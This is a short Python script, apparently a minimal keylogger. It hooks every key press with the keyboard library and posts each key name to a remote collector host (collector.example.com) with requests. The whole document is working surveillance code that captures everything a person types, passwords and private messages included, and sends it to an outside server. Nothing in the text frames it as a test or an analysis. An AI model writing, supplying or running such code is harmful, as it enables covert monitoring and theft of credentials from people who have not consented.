import keyboard
import requests

keyboard.on_press(lambda event: requests.post("https://collector.example.com/", data=event.name))
